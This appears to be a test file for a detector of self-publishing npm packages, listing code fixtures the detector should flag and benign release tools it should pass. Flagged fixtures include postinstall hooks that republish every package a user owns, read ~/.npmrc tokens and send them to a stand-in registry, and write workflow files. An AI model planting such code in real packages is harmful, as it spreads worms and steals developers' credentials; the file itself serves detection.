import { examine } from '../../../test/examine.ts';
import { publishesItself } from './publishes-itself.ts';

const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };

examine(publishesItself, {
  speaks: [
    {
      when: 'it fetches all packages that its user may publish, and publishes them',
      files: {
        'index.js': `const { promisify } = require('util'); const run = promisify(require('child_process').execFile);
exports.close = async user => { const { stdout } = await run('npm', ['access', 'list', 'packages', user, '--json']); for (const name of Object.keys(JSON.parse(stdout))) { await run('npm', ['pack', name]); await run('npm', ['publish'], { cwd: name }) } }`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook publishes by a library, with what a class of another file found',
      files: {
        'package.json': hook,
        'setup.js': `const { Publisher } = require('./p'); new Publisher(process.env.NPM_TOKEN).bump('x');`,
        'p.js': `const { publish } = require('libnpmpublish'); exports.Publisher = class { constructor(token) { this.token = token } bump(name) { return publish({ name }, Buffer.alloc(0), { forceAuth: { token: this.token } }); } };`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook publishes',
      files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('npm publish --access public')` },
      weight: 'proof',
      says: ['publish'],
    },
    {
      when: 'a hook publishes by another manager of packages',
      files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('bun publish --access public')` },
      weight: 'proof',
    },
    {
      when: 'a hook only looks at what would be published',
      files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('npm publish --dry-run')` },
      weight: 'strong',
    },
    {
      when: 'what a hook starts publishes as well, when somebody types that',
      files: { 'package.json': hook, 'setup.js': `if (process.argv[2] === 'publish') require('child_process').execSync('npm publish')` },
      weight: 'strong',
    },
    {
      when: 'a hook asks who it is and has read the token',
      files: {
        'package.json': hook,
        'setup.js': `const t = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'); require('child_process').execSync('npm whoami')`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook puts to the registry with the token it read',
      files: {
        'package.json': hook,
        'setup.js': `const t = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'); fetch('https://registry.invalid/x', { method: 'PUT', headers: { authorization: 'Bearer ' + t } })`,
      },
      weight: 'proof',
      says: ['registry.invalid'],
    },
    {
      when: 'an import writes a workflow',
      files: { 'index.js': `require('fs').writeFileSync('.github/workflows/x.yml', 'on: push')` },
      weight: 'strong',
      says: ['build workflow'],
    },
    {
      when: 'the verb is an argument',
      files: { 'index.js': `require('child_process').spawnSync('npm', ['token', 'list'])` },
      weight: 'strong',
    },
    {
      when: 'an import publishes an extension of an editor',
      files: { 'index.js': `require('child_process').execFile('npx', ['--yes', 'ovsx', 'publish', '-p', process.env.OVSX_PAT])` },
      weight: 'strong',
    },
    {
      when: 'a release tool publishes when its command is run',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `require('child_process').execSync('npm publish')`,
      },
      weight: 'context',
    },
    {
      when: 'a timer publishes again and again, in code that nothing reaches',
      files: {
        'package.json': { name: 'specimen', main: 'none.js' },
        'auto.js': `function publish() { require('child_process').execSync('npm publish --access public'); } setInterval(publish, 7000)`,
      },
      weight: 'strong',
    },
    {
      when: 'its page has badges of builds, and a function of it writes a workflow',
      files: {
        'README.md':
          '# words\n\n[![ci](https://ci.invalid/actions/workflows/ci.svg)](https://ci.invalid/github)\n\nSmall helpers for words and lines of text: trim, wrap, count and title case.',
        'index.js': `exports.trim = () => require('fs').writeFileSync('.github/workflows/unmask.yml', 'name: unmask-marker')`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a tool for releases asks what its user may publish, and publishes the project',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); exports.release = user => { execFileSync('npm', ['access', 'list', 'packages', user]); execFileSync('npm', ['publish']) }`,
      },
    },
    {
      when: 'a release tool publishes by a library when it is called',
      files: {
        'index.js': `const { publish } = require('libnpmpublish'); exports.release = (manifest, bytes, o) => publish(manifest, bytes, o);`,
      },
    },
    {
      when: 'a tool publishes when called',
      files: { 'index.js': `exports.release = () => require('child_process').execSync('npm publish')` },
    },
    { when: 'a hook installs', files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('npm install x')` } },
  ],
});
